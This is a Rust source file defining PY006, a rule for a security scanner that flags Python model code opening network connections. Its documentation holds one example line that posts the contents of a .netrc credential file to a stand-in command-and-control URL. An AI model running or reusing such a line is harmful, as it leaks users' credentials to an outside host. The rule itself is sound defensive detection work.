//! PY006: Python source opens network connections (requests, urllib, http.client, socket, httpx, aiohttp, ftplib, smtplib).

use sentrascan_types::{Category, RuleMeta, Severity};

pub static RULE: RuleMeta = RuleMeta {
    code: "PY006",
    name: "python-network-access",
    family: super::FAMILY,
    default_severity: Severity::Medium,
    category: Category::NetworkOperations,
    scanner: "python",
    cwe: Some("CWE-829"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "Python source opens network connections (requests, urllib, http.client, socket, httpx, aiohttp, ftplib, smtplib).",
    remediation: "Check where the code connects and why; model code should read local files only.",
    docs: r#"## What it does
Reports calls that fetch URLs or open sockets: `requests.*`,
`urllib.request.urlopen`/`urlretrieve`, `http.client` connections,
`socket.socket`/`create_connection`, `httpx`, `aiohttp`, `urllib3`,
`ftplib`, `smtplib`, `telnetlib`, `paramiko`, `websockets`.

## Why is this bad?
Often it is benign (downloading a vocabulary), which is why this is
MEDIUM. It is also how a second stage arrives or data leaves.

## Example
```python
requests.post("http://example.invalid/c2", data=open(".netrc").read())
```

## How to fix
Nothing if the destination is expected; otherwise remove the call.

## References
- CWE-829: Inclusion of Functionality from Untrusted Control Sphere
"#,
};
